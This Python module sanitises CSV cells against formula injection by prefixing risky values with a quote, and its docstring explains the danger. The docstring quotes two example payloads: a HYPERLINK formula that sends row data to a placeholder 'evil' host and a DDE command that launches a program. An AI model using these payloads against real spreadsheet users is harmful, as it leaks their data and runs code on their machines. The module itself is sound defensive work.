"""CSV cells that a spreadsheet would run as a formula are neutralised (CSV or formula injection, OWASP's rule).

The CSV files odl-geo writes are opened in LibreOffice Calc and Excel by the people who download open data. A text
value starting with ``=``, ``+``, ``-`` or ``@`` (or with a tab or carriage return, or with spaces before one of
them) is taken by those programs as a formula: ``=HYPERLINK("http://evil/?"&A1;"clic")`` sends the row away,
``=cmd|' /C calc'!A0`` ran programs in older versions. OWASP's rule is to prefix such a cell with a single quote,
which the spreadsheet shows as text. Real numbers stay numbers: ``-5.2``, ``+33467000000`` or ``-0,5`` are numbers
for a spreadsheet, not formulas, and a quote would turn them into text and break sums.

Every CSV writer of odl-geo calls :func:`neutralise_csv_cell` (or applies :data:`FORMULA_START` /
:data:`NUMBER` to a whole Arrow column at once, with the same meaning).
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable

__all__ = ["FORMULA_START", "NUMBER", "neutralise_csv_cell", "neutralise_csv_row"]

#: a cell a spreadsheet may evaluate: a tab or CR first, or (after spaces or line breaks) one of = + - @
#: (their full-width forms too, which some spreadsheets fold to the ASCII ones)
FORMULA_START = "^(?:[\t\r]|[ \n]*[=+\\-@\uff1d\uff0b\uff0d\uff20])"
#: a plain number (sign, digits, decimal point or comma, exponent): shown as a number, never run as a formula
NUMBER = r"^[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?$"

_FORMULA = re.compile(FORMULA_START)
_NUMBER = re.compile(NUMBER)


def neutralise_csv_cell(value: object) -> object:
    """``value`` with a ``'`` in front when it is text a spreadsheet would run as a formula; anything else as it is.

    >>> [neutralise_csv_cell(v) for v in ("=1+1", "-5.2", "@SUM(A1)", 3)]
    ["'=1+1", '-5.2', "'@SUM(A1)", 3]
    """
    if isinstance(value, str) and _FORMULA.match(value) and not _NUMBER.match(value):
        return "'" + value
    return value


def neutralise_csv_row(cells: Iterable[object]) -> list[object]:
    """:func:`neutralise_csv_cell` of every cell of a row (header rows too: field names come from the source)."""
    return [neutralise_csv_cell(c) for c in cells]
